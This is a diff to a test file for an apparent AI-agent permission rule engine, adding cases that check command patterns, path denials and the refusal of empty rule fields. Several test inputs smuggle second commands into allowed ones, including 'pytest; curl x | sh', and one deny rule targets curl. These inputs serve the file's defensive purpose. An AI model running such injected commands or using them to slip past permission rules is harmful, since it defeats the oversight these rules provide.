@@ -44,6 +44,20 @@ MATCHES = [
         for more in ("; ls", "&& ls", "| sh", "> x", "< x", "$(ls)", "`ls`", "\nls", "\r", "& ls", "\\\nls", "(ls)")
     ],
     (Rule("deny", arguments={"command": "pytest*"}), bash("pytest; ls"), True),
+    # nor does a regular expression
+    *[
+        (Rule("allow", arguments={"command": "re:pytest.*"}), bash(f"pytest{more}"), False)
+        for more in ("; curl x | sh", "|sh", " && ls", "$(ls)", "`ls`", "\nls", " > x", "\\\nls", "\r")
+    ],
+    (Rule("allow", arguments={"command": "re:pytest.*"}), bash("pytest -q"), True),
+    (Rule("deny", arguments={"command": "re:.*curl.*"}), bash("pytest; curl x | sh"), True),
+    (Rule("allow", arguments={"command": "ls | wc -l"}), bash("ls | wc -l"), True),  # written out, it is allowed
+    # "pytest *" is a program with or without words, and not another program
+    (Rule("allow", arguments={"command": "pytest *"}), bash("pytest"), True),
+    (Rule("allow", arguments={"command": "pytest *"}), bash("pytest -q"), True),
+    (Rule("allow", arguments={"command": "pytest *"}), bash("pytest-evil"), False),
+    (Rule("allow", arguments={"command": "pytest *"}), bash("pytest/../evil"), False),
+    (Rule("allow", arguments={"command": "pytest *"}), bash("pytest ; ls"), False),
     (Rule("allow", path="src/**"), edit("src/a/b.py"), True),
     (Rule("allow", path="src/*"), edit("src/a/b.py"), False),
     (Rule("allow", path="src/*"), edit("src/a.py"), True),
@@ -55,6 +69,10 @@ MATCHES = [
     (Rule("deny", path=".git/**"), edit("src/a", ".git/config"), True),
     (Rule("deny", path=".git/**"), bash("rm .git/config"), False),
     (Rule("ask", path="*.md"), edit("a.md"), True),
+    # a denial does not depend on letter case, a permission does
+    (Rule("deny", path="**/.git/**"), edit("sub/.GIT/config"), True),
+    (Rule("deny", path="**/.Git"), edit(".gIt"), True),
+    (Rule("allow", path="src/**"), edit("SRC/a.py"), False),
 ]
 
 
@@ -78,9 +96,9 @@ def test_what_no_rule_is_about_is_asked_or_denied() -> None:
 
 
 words = st.sampled_from(["bash", "edit", "look", "*", "b*"])
-effects = st.lists(st.sampled_from(["none", "read", "write", "execute", "network"]), max_size=2)
+effects = st.none() | st.lists(st.sampled_from(["none", "read", "write", "execute", "network"]), min_size=1)
 paths = st.sampled_from([None, "**", "src/**", ".git/*"])
-rules = st.builds(Rule, st.sampled_from(["allow", "ask", "deny"]), words, effects, st.just({}), paths)
+rules = st.builds(Rule, st.sampled_from(["allow", "ask", "deny"]), words, effects, st.none(), paths)
 proposals = st.builds(
     Proposal,
     st.sampled_from(["bash", "edit", "look"]),
@@ -101,6 +119,14 @@ def test_another_rule_never_makes_it_laxer_unless_it_allows(before: list[Rule], 
         assert any(rule.action == "allow" and rule.matches(proposal) for rule in [*before, more])
 
 
+def test_rules_with_a_path_that_no_tool_can_match_are_found() -> None:
+    tools = [("read_file", "read", True), ("edit_file", "write", True), ("bash", "execute", False)]
+    fetch = ("fetch", "execute", False)
+    idle = [Rule("deny", "fetch", path="secrets/**"), Rule("deny", side_effect=["execute"], path="x/**")]
+    used = [Rule("deny", path="secrets/**"), Rule("deny", "edit_*", path="x"), Rule("deny", "fetch")]
+    assert Policy([*idle, *used]).find_idle([*tools, fetch]) == idle  # type: ignore[list-item]
+
+
 # --- refused ----------------------------------------------------------------------------------------
 
 
@@ -114,7 +140,13 @@ def test_another_rule_never_makes_it_laxer_unless_it_allows(before: list[Rule], 
         ({"action": "allow", "arguments": {"x": "re:["}}, "arguments.x: .* is not a regular expression"),
         ({"action": "deny", "path": "/etc"}, "path: must be a pattern below the workspace"),
         ({"action": "deny", "path": "a/../b"}, "path: must be a pattern below the workspace"),
-        ({"action": "deny", "path": ""}, "path: must be a pattern below the workspace"),
+        ({"action": "deny", "path": ""}, "path: is empty"),
+        ({"action": "allow", "tool": ""}, "tool: is empty"),
+        ({"action": "allow", "tool": "re:"}, "tool: is empty"),
+        ({"action": "allow", "side_effect": []}, "side_effect: is empty"),
+        ({"action": "allow", "side_effect": iter(())}, "side_effect: is empty"),
+        ({"action": "allow", "arguments": {}}, "arguments: is empty"),
+        ({"action": "allow", "arguments": {"command": ""}}, "arguments.command: is empty"),
     ],
 )
 def test_a_rule_that_is_none_is_refused_by_field(facts: dict[str, Any], complaint: str) -> None:
@@ -171,6 +203,15 @@ def test_rules_are_read_from_a_file(tmp_path: Path) -> None:
         ("rules:\n  - action: allow\n    path: ../x", r":3: rules\[0\].path: must be a pattern below"),
         ("rules:\n  - action: allow\n    side_effect: [reed]", r":3: rules\[0\].side_effect: must be of none"),
         ("rules:\n  - {action: allow, action: deny}", "there twice"),
+        ("rules:\n  - action: allow\n    tool:", r":3: rules\[0\].tool: is empty"),
+        ("rules:\n  - action: allow\n    tool: ''", r":3: rules\[0\].tool: is empty"),
+        ("rules:\n  - action: allow\n    side_effect:", r":3: rules\[0\].side_effect: is empty"),
+        ("rules:\n  - action: allow\n    side_effect: []", r":3: rules\[0\].side_effect: is empty"),
+        ("rules:\n  - action: allow\n    path:", r":3: rules\[0\].path: is empty"),
+        ("rules:\n  - action: allow\n    arguments:", r":3: rules\[0\].arguments: is empty"),
+        ("rules:\n  - action: allow\n    arguments: {}", r":3: rules\[0\].arguments: is empty"),
+        ("rules:\n  - action: allow\n    arguments: {command: }", r"arguments.command: must be text"),
+        ("rules:\n  - action: allow\n    arguments: {command: ''}", r"arguments.command: is empty"),
         ("rules: [", ":"),
     ],
 )
